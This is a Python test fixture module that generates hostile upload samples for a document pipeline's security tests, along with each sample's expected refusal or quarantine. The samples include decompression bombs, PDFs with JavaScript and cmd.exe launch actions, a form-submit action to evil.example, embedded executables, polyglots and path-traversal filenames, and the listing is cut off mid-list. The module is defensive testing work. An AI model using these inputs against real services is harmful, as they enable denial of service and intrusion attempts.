"""A corpus of malformed and hostile uploads, every one generated in code.

`HOSTILE_CASES` names each case, the filename the client sends, how to make its
bytes, and what must become of it: refused at the door (`Refused`: an HTTP status
and error code, nothing stored) or accepted and then stopped by the pipeline
(`Stopped`: the shell file's final status and the `error_type` of its final error
row). `HostileCorpus(root)` writes each file on first use and keeps it, so a test
session generates each once.

Everything is synthetic. The bombs are small on disk and claim (or would expand to)
far more than the limits allow; none is ever expanded here.
"""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import pikepdf
from PIL import Image
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from app.pipeline.security import EICAR
from tests.support.samples import CLINICAL_LETTER, text_pdf


@dataclass(frozen=True)
class Refused:
    """Refused at upload: this HTTP status and error code; nothing is stored."""

    status: int
    code: str
    message: str = ""  # a part of the error message, when the code alone is vague


@dataclass(frozen=True)
class Stopped:
    """Accepted, then stopped: the shell file ends `status` with a final error row of
    `error_type`."""

    error_type: str
    status: str = "quarantined"


@dataclass(frozen=True)
class HostileCase:
    name: str
    filename: str | bytes  # bytes: sent raw in the multipart header (not valid UTF-8)
    make: Callable[[], bytes]
    outcome: Refused | Stopped

    def __str__(self) -> str:
        return self.name


# PDFs ------------------------------------------------------------------------------


def letter() -> bytes:
    return text_pdf(CLINICAL_LETTER)


def _edit_pdf(edit: Callable[[pikepdf.Pdf], None], base: bytes | None = None) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(base or letter())) as pdf:
        edit(pdf)
        pdf.save(out)
    return out.getvalue()


def _encrypted(encryption: pikepdf.Encryption) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(letter())) as pdf:
        pdf.save(out, encryption=encryption)
    return out.getvalue()


def _javascript_open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    )


def _javascript_name_tree(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="this.print()"))
    names = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("run"), action]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(names))


def _javascript_link(pdf: pikepdf.Pdf) -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=pikepdf.Array([72, 72, 200, 100]),
        A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.launchURL('x')"),
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annotation)]))


def _launch_action(pdf: pikepdf.Pdf, program: str = "cmd.exe") -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String(program), NewWindow=True
    )


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" * 64)


def _xfa_form(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def _rich_media(pdf: pikepdf.Pdf) -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.RichMedia,
        Rect=pikepdf.Array([0, 0, 10, 10]),
        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary()),
    )
    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(annotation)])


def many_pages_pdf(pages: int) -> bytes:
    """`pages` blank pages sharing one empty content stream: about 90 bytes a page."""
    kids = b" ".join(b"%d 0 R" % (4 + index) for index in range(pages))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>"
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            b"<< /Length 0 >>\nstream\n\nendstream",
            *[page] * pages,
        ]
    )


def zero_page_pdf() -> bytes:
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF written by hand, with a correct cross-reference table for `objects`
    (numbered from 1; object 1 is the catalog)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _one_page(page_extra: bytes = b"", content: bytes = b"", extra: list[bytes] | None = None):
    """Objects of a one-page PDF: catalog, pages, page (with `page_extra`), content."""
    stream = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        + page_extra
        + b" >>",
        stream,
        *(extra or []),
    ]


def deeply_nested_arrays_pdf(depth: int = 100_000) -> bytes:
    return _raw_pdf(_one_page(b"/Deep " + b"[" * depth + b"]" * depth))


def deeply_nested_dicts_pdf(depth: int = 100_000) -> bytes:
    return _raw_pdf(_one_page(b"/Deep " + b"<< /A " * depth + b"1" + b" >>" * depth))


def flate_bomb_pdf(expanded_mib: int = 1024) -> bytes:
    """A page whose content stream inflates to `expanded_mib` MiB (1 GiB) of spaces.

    Deflate restarts after a full flush, so one compressed MiB repeats as is; only the
    Adler-32 checksum at the end needs the whole expanded length."""
    block = b" " * (1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(expanded_mib):
        checksum = zlib.adler32(block, checksum)
    body = b"\x78\xda" + piece * expanded_mib + b"\x03\x00" + struct.pack(">I", checksum)
    objects = _one_page()
    objects[3] = (
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream"
    )
    return _raw_pdf(objects)


def huge_image_xobject_pdf() -> bytes:
    """A page drawing an image that claims 100,000 x 100,000 pixels."""
    data = zlib.compress(b"\0" * 1024)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 "
        b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
    )
    return _raw_pdf(
        _one_page(
            b"/Resources << /XObject << /Im0 5 0 R >> >>",
            b"q 612 0 0 792 0 0 cm /Im0 Do Q",
            [image],
        )
    )


def huge_page_pdf() -> bytes:
    """A blank page 200 inches square: 60,000 x 60,000 pixels at the OCR's 300 dpi."""
    objects = _one_page()
    objects[2] = objects[2].replace(b"[0 0 612 792]", b"[0 0 14400 14400]")
    return _raw_pdf(objects)


def corrupt_object_pdf() -> bytes:
    """A PDF whose page tree object is garbage: it looks like a PDF and cannot be read."""
    objects = _one_page()
    objects[1] = b"<< /Type /Pages /Kids [3 0 R /Count \xff\xfe garbage ))) >>"
    return _raw_pdf(objects)


def polyglot_pdf_zip() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("run.sh", "echo hidden\n")
    return letter() + archive.getvalue()


def pdf_with_eicar_comment() -> bytes:
    plain = letter()
    head, _, rest = plain.partition(b"\n")
    return head + b"\n%" + EICAR + b"\n" + rest


def html_pdf_polyglot() -> bytes:
    """Starts as a PDF, and is an HTML page with a script after the header."""
    return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"


# Streams that decode past the cap whatever their filters (the test session's
# MAX_PDF_STREAM_BYTES is 48 MiB: each of these decodes to 64 MiB of zeros).

BOMB_BYTES = 64 * 1024 * 1024


def flate_zeros(size: int = BOMB_BYTES) -> bytes:
    compressor = zlib.compressobj(9)
    block = b"\0" * (1 << 20)
    return b"".join(compressor.compress(block) for _ in range(size >> 20)) + compressor.flush()


def lzw_zeros(size: int = BOMB_BYTES) -> bytes:
    """PDF LZW codes (early change) for at least `size` zero bytes: after each clear-table
    code, code 0, then 258, 259, … each one zero longer than the one before."""
    out, buffer, bits = bytearray(), 0, 0

    def emit(code: int, width: int) -> None:
        nonlocal buffer, bits
        buffer, bits = (buffer << width) | code, bits + width
        while bits >= 8:
            bits -= 8
            out.append((buffer >> bits) & 0xFF)
        buffer &= (1 << bits) - 1

    written, width = 0, 9
    while written < size:
        emit(256, width)
        width, table = 9, 258
        emit(0, width)
        written += 1
        while table < 4095 and written < size:
            emit(table, width)
            written += table - 256
            table += 1
            if table + 1 >= 1 << width and width < 12:
                width += 1
    emit(257, width)
    if bits:
        out.append((buffer << (8 - bits)) & 0xFF)
    return bytes(out)


def lzw_encode(data: bytes, early_change: int = 1) -> bytes:
    """`data` as PDF LZW codes (a plain encoder, for data of ordinary size). It follows
    the decoder's table (one entry behind its own) to write each code at its width."""
    out, buffer, bits = bytearray(), 0, 0
    decoder = {"entries": 258, "first": True}

    def emit(code: int) -> None:
        nonlocal buffer, bits
        size = decoder["entries"] + early_change
        width = next((w for w in (9, 10, 11) if size < 1 << w), 12)
        buffer, bits = (buffer << width) | code, bits + width
        while bits >= 8:
            bits -= 8
            out.append((buffer >> bits) & 0xFF)
        buffer &= (1 << bits) - 1
        if code == 256:
            decoder.update(entries=258, first=True)
        elif code < 256 or code > 257:
            decoder["entries"] += 0 if decoder["first"] else 1
            decoder["first"] = False

    emit(256)
    table, word = {bytes([v]): v for v in range(256)}, b""
    for value in data:
        longer = word + bytes([value])
        if longer in table:
            word = longer
            continue
        if word:
            emit(table[word])
            table[longer] = len(table) + 2  # 256 and 257 are clear and end
        word = bytes([value])
        if len(table) >= 4090:  # a new table before the decoder's fills
            emit(table[word])
            emit(256)
            table, word = {bytes([v]): v for v in range(256)}, b""
    if word:
        emit(table[word])
    emit(257)
    if bits:
        out.append((buffer << (8 - bits)) & 0xFF)
    return bytes(out)


def run_length_zeros(size: int = BOMB_BYTES) -> bytes:
    return b"\x81\x00" * (size // 128) + b"\x80"  # each pair: 128 zeros


def page_stream_pdf(filters: bytes, body: bytes, parms: bytes = b"") -> bytes:
    """A one-page PDF whose content stream is `body` under `filters`."""
    objects = _one_page()
    objects[3] = (
        b"<< /Length %d /Filter %s %s>>\nstream\n" % (len(body), filters, parms)
        + body
        + b"\nendstream"
    )
    return _raw_pdf(objects)


def flate_chain_bomb_pdf() -> bytes:
    return page_stream_pdf(b"[/FlateDecode /FlateDecode]", zlib.compress(flate_zeros(), 9))


def ascii85_flate_bomb_pdf() -> bytes:
    body = base64.a85encode(flate_zeros(), wrapcol=72) + b"~>"
    return page_stream_pdf(b"[/ASCII85Decode /FlateDecode]", body)


def jbig2_page(width: int, height: int) -> bytes:
    """An embedded JBIG2 stream holding only a page information segment."""
    info = struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
    return struct.pack(">IBBBI", 0, 48, 0, 1, len(info)) + info


def image_xobject_pdf(filters: bytes, data: bytes, size: tuple[int, int] = (16, 16)) -> bytes:
    """A page drawing a 1-bit image of `size` whose data is `data` under `filters`."""
    image = (
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 1 /Filter %s /Length %d >>\nstream\n"
        % (*size, filters, len(data))
        + data
        + b"\nendstream"
    )
    return _raw_pdf(
        _one_page(
            b"/Resources << /XObject << /Im0 5 0 R >> >>", b"q 72 0 0 72 0 0 cm /Im0 Do Q", [image]
        )
    )


def annotated_pdf(annotation: bytes) -> bytes:
    """A one-page PDF with one annotation (object 5)."""
    return _raw_pdf(_one_page(b"/Annots [5 0 R]", b"", [annotation]))


def link_action_pdf(action: bytes) -> bytes:
    return annotated_pdf(
        b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 100] /A " + action + b" >>"
    )


def ef_file_spec_pdf() -> bytes:
    """A file specification carrying a file in /EF (its stream has no /Type), hung from a
    link: the attachment is declared by /EF alone."""
    payload = b"MZ\x90\x00" * 16
    return _raw_pdf(
        _one_page(
            b"/Annots [5 0 R]",
            b"",
            [
                b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 100] "
                b"/FS << /Type /Filespec /F (report.exe) /EF << /F 6 0 R >> >> >>",
                b"<< /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream",
            ],
        )
    )


def associated_file_pdf() -> bytes:
    """PDF 2.0's associated files: /AF on the catalog, naming a file specification."""
    objects = _one_page()
    objects[0] = (
        b"<< /Type /Catalog /Pages 2 0 R "
        b"/AF [<< /Type /Filespec /F (data.xml) /AFRelationship /Data >>] >>"
    )
    return _raw_pdf(objects)


def user_unit_pdf(unit: bytes = b"2") -> bytes:
    return _raw_pdf(_one_page(b"/UserUnit " + unit))


def inline_image_pdf(
    width: int, height: int, data: bytes = b"00>", filters: bytes = b"/AHx"
) -> bytes:
    content = (
        b"q 72 0 0 72 0 0 cm BI /W %d /H %d /BPC 1 /CS /G /F %s ID " % (width, height, filters)
        + data
        + b" EI Q"
    )
    return _raw_pdf(_one_page(content=content))


def certificate_encrypted_pdf() -> bytes:
    """Encrypted for a certificate's holder (the public-key handler), not with a password."""
    plain = letter()
    return plain.replace(
        b"trailer\n<<",
        b"trailer\n<< /Encrypt << /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /R 4 "
        b"/Recipients [<3003>] >>",
        1,
    )


def invariant_letter() -> bytes:
    """The letter with no date or random file identifier: the same bytes every run."""
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, invariant=1)
    for line_number, line in enumerate(CLINICAL_LETTER):
        pdf.drawString(72, 800 - 18 * line_number, line)
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def fuzzed_pdf(seed: int) -> bytes:
    """The letter, damaged the same way for each seed: cut short (seed % 3 == 0), a few
    bytes changed (1), or a run of bytes overwritten (2)."""
    rng = random.Random(seed)
    data = bytearray(invariant_letter())
    if seed % 3 == 0:
        del data[rng.randrange(len(data) // 4, len(data) - 40) :]
    elif seed % 3 == 1:
        for _ in range(rng.randint(4, 40)):
            data[rng.randrange(9, len(data))] = rng.randrange(256)
    else:
        at, count = rng.randrange(9, len(data) - 200), rng.randrange(16, 200)
        data[at : at + count] = rng.randbytes(count)
    return bytes(data)


# Seeds whose damage no repair recovers (the others are repaired by qpdf and read).
FUZZ_SEEDS = (0, 1, 3, 6, 7, 9, 10, 11, 12, 13, 14, 15, 19)


# Images ----------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_claiming(width: int, height: int, idat: bytes | None = None) -> bytes:
    """A PNG whose header claims width x height 1-bit pixels; its data is tiny."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = idat if idat is not None else zlib.compress(b"\0" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


def png_zlib_bomb() -> bytes:
    """A real 12,000 x 12,000 8-bit PNG of zeros (144 MB of pixels, ~140 KB on disk)."""
    width = height = 12_000
    compressor = zlib.compressobj(9)
    row = b"\0" * (width + 1)  # filter byte + pixels
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def page_image() -> Image.Image:
    image = Image.new("L", (600, 400), 255)
    rng = random.Random(5)
    for _ in range(4000):
        image.putpixel((rng.randrange(600), rng.randrange(400)), 0)
    return image


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header is rewritten to claim width x height."""
    data = bytearray(encode(Image.new("L", (16, 16), 128), "JPEG"))
    at = data.index(b"\xff\xc0")  # start of frame: marker, length(2), precision(1), h, w
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def tiff_claiming(width: int, height: int) -> bytes:
    """A small TIFF whose width and length tags are rewritten."""
    data = bytearray(encode(Image.new("L", (16, 16), 128), "TIFF"))
    (ifd,) = struct.unpack("<I", data[4:8])
    (count,) = struct.unpack("<H", data[ifd : ifd + 2])
    for index in range(count):
        entry = ifd + 2 + 12 * index
        tag, kind = struct.unpack("<HH", data[entry : entry + 4])
        if tag in (256, 257):
            value = width if tag == 256 else height
            fmt = "<H" if kind == 3 else "<I"
            struct.pack_into(fmt, data, entry + 8, value)
    return bytes(data)


def webp_claiming(width: int, height: int) -> bytes:
    """A lossless WebP whose header is rewritten to claim width x height (14 bits each)."""
    data = bytearray(encode(Image.new("RGB", (16, 16), "white"), "WEBP", lossless=True))
    at = data.index(b"VP8L") + 8 + 1  # chunk header, then the signature byte 0x2f
    (bits,) = struct.unpack("<I", data[at : at + 4])
    bits = (bits & ~0xFFFFFFF) | ((width - 1) & 0x3FFF) | (((height - 1) & 0x3FFF) << 14)
    struct.pack_into("<I", data, at, bits)
    return bytes(data)


def many_frame_tiff(frames: int = 600) -> bytes:
    first, *rest = [Image.new("1", (16, 16), 1) for _ in range(frames)]
    return encode(first, "TIFF", save_all=True, append_images=rest)


def truncated_png() -> bytes:
    data = encode(page_image(), "PNG")
    return data[: len(data) // 2]


def truncated_jpeg() -> bytes:
    data = encode(page_image(), "JPEG", quality=90)
    return data[: len(data) // 2]


def bad_crc_png() -> bytes:
    data = bytearray(encode(page_image(), "PNG"))
    at = data.index(b"IDAT")
    data[at + 40] ^= 0xFF  # flip pixel data bytes; the chunk's CRC no longer matches
    return bytes(data)


def png_zip_polyglot(payload: str = "alert(1)\n") -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.js", payload)
    return encode(page_image(), "PNG") + archive.getvalue()


def jpeg_zip_polyglot() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.class", b"\xca\xfe\xba\xbe")
    return encode(page_image(), "JPEG") + archive.getvalue()


# Disguises -------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><head><script>fetch('/api/v1/profiles')</script></head></html>\n"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script><rect width='10' height='10'/></svg>\n"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200


def zip_archive() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("letter.pdf", letter())
    return archive.getvalue()


def gif_image() -> bytes:
    return encode(Image.new("L", (32, 32), 200), "GIF")


def traversal_note() -> bytes:
    return b"Notes\n" + EICAR + b"\n"


# The corpus ------------------------------------------------------------------------

Q = Stopped  # quarantined unless told otherwise

HOSTILE_CASES: tuple[HostileCase, ...] = (
    # Refused at the door: nothing stored.
    HostileCase("zero_byte_pdf", "empty.pdf", lambda: b"", Refused(400, "empty_file")),
    HostileCase("zero_byte_png", "empty.png", lambda: b"", Refused(400, "empty_file")),
    HostileCase("html_as_png", "photo.png", lambda: HTML, Refused(415, "unsupported_type")),
    HostileCase("svg_as_jpg", "scan.jpg", lambda: SVG, Refused(415, "unsupported_type")),
    HostileCase("svg_as_svg", "chart.svg", lambda: SVG, Refused(415, "unsupported_type")),
    HostileCase("gif_as_png", "scan.png", gif_image, Refused(415, "unsupported_type")),
    HostileCase("exe_as_pdf", "letter.pdf", lambda: PE, Refused(415, "unsupported_type")),
    HostileCase("elf_as_jpg", "photo.jpg", lambda: ELF, Refused(415, "unsupported_type")),
    HostileCase("zip_as_pdf", "letter.pdf", zip_archive, Refused(415, "unsupported_type")),
    # Corrupt or truncated PDFs.
    HostileCase("truncated_pdf", "letter.pdf", lambda: letter()[:900], Q("malformed_file")),
    HostileCase("pdf_header_only", "letter.pdf", lambda: b"%PDF-1.7\n%%EOF\n", Q("malformed_file")),
    HostileCase(
        "pdf_random_body",
        "letter.pdf",
        lambda: b"%PDF-1.7\n" + random.Random(3).randbytes(20_000),
        Q("malformed_file"),
    ),
    HostileCase("corrupt_page_tree_pdf", "letter.pdf", corrupt_object_pdf, Q("malformed_file")),
    HostileCase("zero_page_pdf", "letter.pdf", zero_page_pdf, Q("malformed_file")),
    HostileCase("html_pdf_polyglot", "letter.pdf", html_pdf_polyglot, Q("malformed_file")),
    # PDFs that need a password or do more than show pages.
    HostileCase(
        "encrypted_pdf_rc4",
        "letter.pdf",
        lambda: _encrypted(pikepdf.Encryption(user="u", owner="o", R=3, aes=False, metadata=False)),
        Q("encrypted_pdf"),
    ),
    HostileCase(
        "encrypted_pdf_aes256",
        "letter.pdf",
        lambda: _encrypted(pikepdf.Encryption(user="user-pw", owner="owner-pw", R=6)),
        Q("encrypted_pdf"),
    ),
    HostileCase(
        "encrypted_pdf_aes128",
        "letter.pdf",
        lambda: _encrypted(pikepdf.Encryption(user="user-pw", owner="owner-pw", R=4, aes=True)),
        Q("encrypted_pdf"),
    ),
    HostileCase(
        "encrypted_pdf_aes256_clear_metadata",
        "letter.pdf",
        lambda: _encrypted(
            pikepdf.Encryption(user="user-pw", owner="owner-pw", R=6, metadata=False)
        ),
        Q("encrypted_pdf"),
    ),
    HostileCase(
        "encrypted_pdf_certificate", "letter.pdf", certificate_encrypted_pdf, Q("encrypted_pdf")
    ),
    HostileCase(
        "javascript_open_action",
        "letter.pdf",
        lambda: _edit_pdf(_javascript_open_action),
        Q("executable_content"),
    ),
    HostileCase(
        "javascript_name_tree",
        "letter.pdf",
        lambda: _edit_pdf(_javascript_name_tree),
        Q("executable_content"),
    ),
    HostileCase(
        "javascript_link",
        "letter.pdf",
        lambda: _edit_pdf(_javascript_link),
        Q("executable_content"),
    ),
    HostileCase(
        "launch_action", "letter.pdf", lambda: _edit_pdf(_launch_action), Q("executable_content")
    ),
    HostileCase(
        "embedded_file", "letter.pdf", lambda: _edit_pdf(_embedded_file), Q("executable_content")
    ),
    HostileCase("xfa_form", "letter.pdf", lambda: _edit_pdf(_xfa_form), Q("executable_content")),
    HostileCase(
        "rich_media", "letter.pdf", lambda: _edit_pdf(_rich_media), Q("executable_content")
    ),
    # PDFs built to exhaust the reader.
    HostileCase(
        "ten_thousand_pages", "long.pdf", lambda: many_pages_pdf(10_000), Q("too_many_pages")
    ),
    HostileCase("nested_arrays_pdf", "letter.pdf", deeply_nested_arrays_pdf, Q("malformed_file")),
    HostileCase("nested_dicts_pdf", "letter.pdf", deeply_nested_dicts_pdf, Q("malformed_file")),
    HostileCase("flate_bomb_pdf", "letter.pdf", flate_bomb_pdf, Q("decompression_bomb")),
    HostileCase("huge_image_in_pdf", "letter.pdf", huge_image_xobject_pdf, Q("decompression_bomb")),
    HostileCase("huge_page_pdf", "letter.pdf", huge_page_pdf, Q("decompression_bomb")),
    HostileCase("pdf_zip_polyglot", "letter.pdf", polyglot_pdf_zip, Q("polyglot_file")),
    # Every stream is capped whatever its filters; image codecs by what their headers claim.
    HostileCase(
        "flate_chain_bomb_pdf", "letter.pdf", flate_chain_bomb_pdf, Q("decompression_bomb")
    ),
    HostileCase(
        "ascii85_flate_bomb_pdf", "letter.pdf", ascii85_flate_bomb_pdf, Q("decompression_bomb")
    ),
    HostileCase(
        "lzw_bomb_pdf",
        "letter.pdf",
        lambda: page_stream_pdf(b"/LZWDecode", lzw_zeros()),
        Q("decompression_bomb"),
    ),
    HostileCase(
        "run_length_bomb_pdf",
        "letter.pdf",
        lambda: page_stream_pdf(b"/RunLengthDecode", run_length_zeros()),
        Q("decompression_bomb"),
    ),
    HostileCase(
        "jbig2_page_bomb_pdf",
        "letter.pdf",
        lambda: image_xobject_pdf(b"/JBIG2Decode", jbig2_page(60_000, 60_000)),
        Q("decompression_bomb"),
    ),
    HostileCase(
        "oversized_inline_image_pdf",
        "letter.pdf",
        lambda: inline_image_pdf(10_000, 10_000),
        Q("decompression_bomb"),
    ),
    HostileCase(
        "unknown_filter_pdf",
        "letter.pdf",
        lambda: page_stream_pdf(b"/SnakeOilDecode", b"q Q"),
        Q("malformed_file"),
    ),
    HostileCase(
        "codec_before_filter_pdf",
        "letter.pdf",
        lambda: page_stream_pdf(b"[/DCTDecode /FlateDecode]", b"q Q"),
        Q("unsupported_pdf_feature"),
    ),
    HostileCase("user_unit_pdf", "letter.pdf", user_unit_pdf, Q("unsupported_pdf_feature")),
    # Attachments however declared, and actions that reach beyond the document.
    HostileCase("ef_file_spec_pdf", "letter.pdf", ef_file_spec_pdf, Q("executable_content")),
    HostileCase(
        "file_attachment_annotation_pdf",
        "letter.pdf",
        lambda: annotated_pdf(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 72 90 90] "
            b"/FS << /Type /Filespec /F (notes.exe) >> >>"
        ),
        Q("executable_content"),
    ),
    HostileCase("associated_file_pdf", "letter.pdf", associated_file_pdf, Q("executable_content")),
    HostileCase(
        "goto_remote_pdf",
        "letter.pdf",
        lambda: link_action_pdf(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
        Q("executable_content"),
    ),
    HostileCase(
        "submit_form_pdf",
        "letter.pdf",
        lambda: link_action_pdf(
            b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"
        ),
        Q("executable_content"),
    ),
    HostileCase(
        "import_data_pdf",
        "letter.pdf",
        lambda: link_action_pdf(b"<< /S /ImportData /F (data.fdf) >>"),
        Q("executable_content"),
    ),
    HostileCase(
        "launch_link_pdf",
        "letter.pdf",
        lambda: link_action_pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        Q("executable_content"),
    ),
    # Damaged files end with a named reason, never an internal error.
    *(
        HostileCase(
            f"fuzzed_pdf_{seed}", "letter.pdf", partial(fuzzed_pdf, seed), Q("malformed_file")
        )
        for seed in FUZZ_SEEDS
    ),
    # Images.
    HostileCase(
        "png_header_bomb", "scan.png", lambda: png_claiming(40_000, 40_000), Q("decompression_bomb")
    ),
    HostileCase("png_zlib_bomb", "scan.png", png_zlib_bomb, Q("decompression_bomb")),
    HostileCase(
        "jpeg_huge_dimensions",
        "photo.jpg",
        lambda: jpeg_claiming(65_000, 65_000),
        Q("decompression_bomb"),
    ),
    HostileCase(
        "tiff_huge_dimensions",
        "scan.tiff",
        lambda: tiff_claiming(100_000, 100_000),
        Q("decompression_bomb"),
    ),
    HostileCase(
        "webp_huge_dimensions",
        "photo.webp",
        lambda: webp_claiming(16_000, 16_000),
        Q("decompression_bomb"),
    ),
    HostileCase("tiff_600_frames", "scan.tiff", many_frame_tiff, Q("too_many_pages")),
    HostileCase(
        "one_pixel_png",
        "scan.png",
        lambda: encode(Image.new("L", (1, 1), 0), "PNG"),
        Q("malformed_file"),
    ),
    HostileCase(
        "one_pixel_jpeg",
        "photo.jpg",
        lambda: encode(Image.new("RGB", (1, 1), "black"), "JPEG"),
        Q("malformed_file"),
    ),
    HostileCase("truncated_png", "scan.png", truncated_png, Q("malformed_file")),
    HostileCase("truncated_jpeg", "photo.jpg", truncated_jpeg, Q("malformed_file")),
    HostileCase("bad_crc_png", "scan.png", bad_crc_png, Q("malformed_file")),
    HostileCase("png_zip_polyglot", "scan.png", png_zip_polyglot, Q("polyglot_file")),
    HostileCase("jpeg_zip_polyglot", "photo.jpg", jpeg_zip_polyglot, Q("polyglot_file")),
    # Names that lie about the bytes.
    HostileCase(
        "text_as_pdf", "letter.pdf", lambda: b"Just notes, not a PDF.\n", Q("type_mismatch")
    ),
    HostileCase("pdf_as_png", "scan.png", letter, Q("type_mismatch")),
    HostileCase(
        "png_as_pdf", "letter.pdf", lambda: encode(page_image(), "PNG"), Q("type_mismatch")
    ),
    HostileCase(
        "jpeg_as_txt", "notes.txt", lambda: encode(page_image(), "JPEG"), Q("type_mismatch")
    ),
    # Viruses.
    HostileCase("eicar_txt", "notes.txt", lambda: EICAR, Q("malware_detected")),
    HostileCase("eicar_as_pdf", "letter.pdf", lambda: EICAR + b"\n", Q("malware_detected")),
    HostileCase("eicar_in_pdf", "letter.pdf", pdf_with_eicar_comment, Q("malware_detected")),
    # Hostile names, on hostile bytes: the name is kept as data, never as a path.
    HostileCase(
        "path_traversal_unix", "../../../../etc/cron.d/evil", traversal_note, Q("malware_detected")
    ),
    HostileCase(
        "path_traversal_windows",
        "..\\..\\Windows\\System32\\evil.pdf",
        lambda: _edit_pdf(lambda pdf: _launch_action(pdf, "evil.bat")),
        Q("executable_content"),
    ),
    HostileCase(
        "invalid_utf8_name",
